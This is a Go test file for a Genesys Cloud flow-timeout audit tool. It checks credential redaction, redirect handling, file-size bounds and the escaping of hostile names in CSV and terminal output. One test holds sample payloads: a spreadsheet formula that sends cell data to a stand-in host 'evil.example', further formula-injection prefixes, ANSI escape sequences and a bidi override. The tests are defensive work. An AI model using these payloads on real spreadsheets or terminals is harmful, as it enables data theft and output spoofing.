package examples_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/gcflow/timeouts/client/clienttest"
)

// runBin runs a command built by TestMain with env alone (and PATH, a HOME
// of its own) in a folder of its own.
func runBin(t *testing.T, env []string, name string, args ...string) result {
	t.Helper()
	p := &proc{cmd: exec.Command(filepath.Join(bin, name), args...)}
	p.cmd.Env = append([]string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir(), "XDG_CACHE_HOME=" + t.TempDir(),
		"GENESYS_CLOUD_REQUESTS_PER_MINUTE=-1"}, env...)
	p.cmd.Dir = t.TempDir()
	p.cmd.Stdout, p.cmd.Stderr = &p.stdout, &p.stderr
	require.NoError(t, p.cmd.Start())
	return p.wait(t)
}

// oneLine asserts that text is one line.
func oneLine(t *testing.T, text string) {
	t.Helper()
	assert.Equal(t, 1, strings.Count(text, "\n"), "one line: %q", text)
}

// TestCacheKeepsForeignFiles: a -cache folder that holds somebody's files
// (a sparse 1.2 GB video and a note, both from 2020, one in a subfolder)
// still holds them after an audit fills the cache.
func TestCacheKeepsForeignFiles(t *testing.T) {
	processTest(t)
	o := startOrg(t, 0)
	dir := t.TempDir()
	video, note := filepath.Join(dir, "holiday.mp4"), filepath.Join(dir, "notes", "2020.txt")
	require.NoError(t, os.MkdirAll(filepath.Dir(note), 0o755))
	require.NoError(t, os.WriteFile(note, []byte("my notes"), 0o644))
	f, err := os.Create(video)
	require.NoError(t, err)
	require.NoError(t, f.Truncate(1_200_000_000)) // above the 1 GiB cap, taking no room
	require.NoError(t, f.Close())
	old := time.Date(2020, 5, 1, 0, 0, 0, 0, time.UTC)
	for _, p := range []string{video, note} {
		require.NoError(t, os.Chtimes(p, old, old))
	}
	r := o.run(t, nil, "audit", "-below", "5s", "-cache", dir)
	require.Equal(t, 0, r.code, r.stderr)
	assert.Contains(t, r.stderr, "0 from the cache, 40 read")
	for _, p := range []string{video, note} {
		info, err := os.Stat(p)
		require.NoError(t, err, p)
		assert.Equal(t, old, info.ModTime().UTC(), p)
	}
	info, _ := os.Stat(video)
	assert.Equal(t, int64(1_200_000_000), info.Size())
	r = o.run(t, nil, "audit", "-below", "5s", "-cache", dir)
	assert.Contains(t, r.stderr, "40 from the cache, 0 read", "the cache works beside them")
}

// TestRedirectsCarryNoCredentials: a server that answers 307 on the token
// endpoint, or 302 on the flow listing, to another loopback port: that
// port receives no Authorization header and no secret, and the run fails
// with one line.
func TestRedirectsCarryNoCredentialsCommands(t *testing.T) {
	processTest(t)
	const secret = "s3cret-that-must-stay-home"
	var mu sync.Mutex
	var received []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		mu.Lock()
		received = append(received, fmt.Sprintf("%s %s auth=%q body=%q", r.Method, r.URL, r.Header.Get("Authorization"), body))
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"access_token":"stolen","token_type":"bearer","expires_in":3600,"entities":[],"pageCount":1,"pageNumber":1}`)
	}))
	defer other.Close()
	for _, tc := range []struct{ name, path, says string }{
		{"token 307", "/oauth/token", "307 Temporary Redirect (redirected to " + other.URL + "; not followed"},
		{"listing 302", "/api/v2/flows", "302 Found: redirected to " + other.URL + "; not followed"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == tc.path {
					code := http.StatusFound
					if r.Method == http.MethodPost {
						code = http.StatusTemporaryRedirect
					}
					http.Redirect(w, r, other.URL+r.URL.Path, code)
					return
				}
				w.Header().Set("Content-Type", "application/json")
				fmt.Fprint(w, `{"access_token":"tok-the-real-one","token_type":"bearer","expires_in":3600}`)
			}))
			defer srv.Close()
			env := []string{"GENESYS_CLOUD_API_URL=" + srv.URL, "GENESYS_CLOUD_CLIENT_ID=id", "GENESYS_CLOUD_CLIENT_SECRET=" + secret}
			for _, cmd := range [][]string{{"audit", "-below", "5s", "-no-cache"}, {"raise", "-apply", "-no-cache"}} {
				r := runBin(t, env, cmd[0], cmd[1:]...)
				assert.Equal(t, 1, r.code, r.stderr)
				oneLine(t, r.stderr)
				assert.Contains(t, r.stderr, tc.says)
				assert.NotContains(t, r.stderr+r.stdout, secret)
			}
		})
	}
	mu.Lock()
	defer mu.Unlock()
	assert.Empty(t, received, "the other port received nothing: no token, no secret")
}

// TestAPIURLPasswordNeverShown: credentials in GENESYS_CLOUD_API_URL are
// refused without being printed, whatever else is wrong with the URL.
func TestAPIURLPasswordNeverShown(t *testing.T) {
	processTest(t)
	for _, u := range []string{
		"http://user:pa55w0rd@127.0.0.1:8080",
		"https://user:pa55w0rd@api.example.com",
		"ftp://user:pa55w0rd@host",
		" http://user:pa55w0rd@127.0.0.1:8080",
		"https://user:pa55w0rd@host:99x",
		"https://user:pa55/w0rd@host",
	} {
		for _, cmd := range []string{"audit", "raise", "restore"} {
			args := []string{}
			if cmd == "restore" {
				args = []string{"-dir", t.TempDir()}
			}
			r := runBin(t, []string{"GENESYS_CLOUD_API_URL=" + u, "GENESYS_CLOUD_CLIENT_ID=id", "GENESYS_CLOUD_CLIENT_SECRET=x"}, cmd, args...)
			assert.NotZero(t, r.code, "%s %q", cmd, u)
			assert.NotContains(t, r.stdout+r.stderr, "pa55", "%s %q", cmd, u)
		}
	}
}

// TestEchoedSecretsRedacted: a server that echoes the token JSON-escaped
// in an error body, and a token endpoint that echoes id:secret in its
// error_description: neither reaches stderr, stdout or the -log file.
func TestEchoedSecretsRedacted(t *testing.T) {
	processTest(t)
	const token, secret = "tok-0123456789-the-bearer", "s3cret-0123456789"
	escape := func(s string) string {
		var b strings.Builder
		for _, r := range s {
			fmt.Fprintf(&b, `\u%04x`, r)
		}
		return b.String()
	}
	api := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		switch {
		case r.URL.Path == "/oauth/token":
			fmt.Fprintf(w, `{"access_token":%q,"token_type":"bearer","expires_in":3600}`, token)
		case r.URL.Path == "/api/v2/flows":
			fmt.Fprint(w, `{"entities":[{"id":"f1","name":"Main","type":"INBOUNDCALL"}],"pageNumber":1,"pageCount":1}`)
		default:
			w.WriteHeader(http.StatusBadRequest)
			fmt.Fprintf(w, `{"code":"bad.request","message":"token %s is not valid for %s"}`,
				escape(strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")), escape(secret))
		}
	}))
	defer api.Close()
	login := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		id, sec, _ := r.BasicAuth()
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusUnauthorized)
		fmt.Fprintf(w, `{"error":"invalid_client","error_description":"no client %s:%s"}`, id, sec)
	}))
	defer login.Close()
	for _, srv := range []*httptest.Server{api, login} {
		logFile := filepath.Join(t.TempDir(), "run.log")
		r := runBin(t, []string{"GENESYS_CLOUD_API_URL=" + srv.URL, "GENESYS_CLOUD_CLIENT_ID=the-id", "GENESYS_CLOUD_CLIENT_SECRET=" + secret},
			"raise", "-flows", "f1", "-apply", "-no-cache", "-log", logFile)
		assert.Equal(t, 1, r.code)
		logged, _ := os.ReadFile(logFile)
		all := r.stdout + r.stderr + string(logged)
		assert.Contains(t, all, "[redacted]", "the echo was there, and removed")
		for _, s := range []string{token, secret, escape(token)[:30]} {
			assert.NotContains(t, all, s)
		}
	}
}

// TestFileauditBounded: /dev/zero under a 2 GB address-space limit ends
// with one line and exit 1, not with the runtime running out of memory.
func TestFileauditBounded(t *testing.T) {
	processTest(t)
	cmd := exec.Command("bash", "-c", `ulimit -v 2097152 && exec "$0" /dev/zero`, filepath.Join(bin, "fileaudit"))
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err := cmd.Run()
	require.Error(t, err)
	assert.Equal(t, 1, cmd.ProcessState.ExitCode(), stderr.String())
	oneLine(t, stderr.String())
	assert.Contains(t, stderr.String(), "fileaudit: /dev/zero: larger than 32 MiB")
	assert.NotContains(t, stderr.String(), "fatal error")
}

// hostileFlow is an Architect document whose Data Action names are a
// spreadsheet formula and terminal escapes.
func hostileFlow(names ...string) []byte {
	var nodes []string
	for i, n := range names {
		name, _ := json.Marshal(n)
		nodes = append(nodes, fmt.Sprintf(`{"__type":"DataAction","id":"n%d","name":%s,"actionId":"static_-_x","useSuggestedTimeout":false,`+
			`"timeout":{"config":{"lit":{"text":"P0D0H0M3S0F"}},"text":"P0D0H0M3S0F"}}`, i, name))
	}
	return []byte(`{"name":"Main","flowSequenceItemList":[{"__type":"Task","actionList":[` + strings.Join(nodes, ",") + `]}]}`)
}

// rawControls lists the control characters in s other than newline and
// tab (and CR in CSV, whose records it does not use).
func rawControls(s string) []rune {
	var out []rune
	for _, r := range s {
		if unicode.IsControl(r) && r != '\n' && r != '\t' || r >= 0x202a && r <= 0x202e {
			out = append(out, r)
		}
	}
	return out
}

// TestHostileNamesInOutput: a published node named =HYPERLINK(...) is no
// live formula in audit's CSV; names with ESC, BEL and a bidi override
// reach no output raw, in audit (every format) or fileaudit.
func TestHostileNamesInOutput(t *testing.T) {
	processTest(t)
	names := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "+cmd", "@SUM(1)", "-2+3", "\x1b[2J\x1b]0;pwned\x07bell", "\u202etxt.exe"}
	srv := clienttest.Start(t, &clienttest.Options{RequestsPerMinute: -1}, false)
	_, err := srv.AddFlow(clienttest.FlowSeed{Name: "Main\x1b[31m", Type: "inboundcall", Config: hostileFlow(names...)})
	require.NoError(t, err)
	env := serverEnv(srv)

	r := runBin(t, env, "audit", "-format", "csv", "-no-cache")
	require.Equal(t, 0, r.code, r.stderr)
	records, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, 1+len(names))
	for _, rec := range records {
		for _, cell := range rec {
			if cell != "" {
				assert.NotContains(t, "=+@", cell[:1], "no cell starts a formula: %q", cell)
			}
		}
	}
	assert.Contains(t, r.stdout, `'=HYPERLINK(`)
	assert.Contains(t, r.stdout, ",'-2+3,", "a formula, not a number: prefixed")
	for _, format := range []string{"text", "json", "csv"} {
		r := runBin(t, env, "audit", "-format", format, "-no-cache", "-below", "5s")
		assert.Equal(t, 0, r.code, r.stderr)
		assert.Empty(t, rawControls(r.stdout+r.stderr), format)
		if format == "text" {
			assert.Contains(t, r.stdout, `\x1b[2J\x1b]0;pwned\x07bell`, "shown, escaped")
			assert.Contains(t, r.stdout, `\u202etxt.exe`)
		}
	}
	file := filepath.Join(t.TempDir(), "flow.json")
	require.NoError(t, os.WriteFile(file, hostileFlow(names...), 0o600))
	r = runBin(t, nil, "fileaudit", file)
	assert.Equal(t, 0, r.code, r.stderr)
	assert.Empty(t, rawControls(r.stdout+r.stderr))
	assert.Contains(t, r.stdout, `\x1b[2J`)
}

// TestLongFlagValueQuotedInPart: an invalid -min of 130 KB is quoted up to
// 100 characters.
func TestLongFlagValueQuotedInPart(t *testing.T) {
	processTest(t)
	long := strings.Repeat("9", 130_000) + "x"
	for _, args := range [][]string{{"audit", "-below", long}, {"raise", "-min", long}, {"fileaudit", "-min", long, "f.json"}, {"raise", "-type", long}} {
		r := runBin(t, nil, args[0], args[1:]...)
		assert.Equal(t, 2, r.code, args[0])
		oneLine(t, r.stderr)
		assert.Less(t, len(r.stderr), 400, "%s: %.200s", args[0], r.stderr)
		assert.Contains(t, r.stderr, strings.Repeat("9", 90))
	}
}
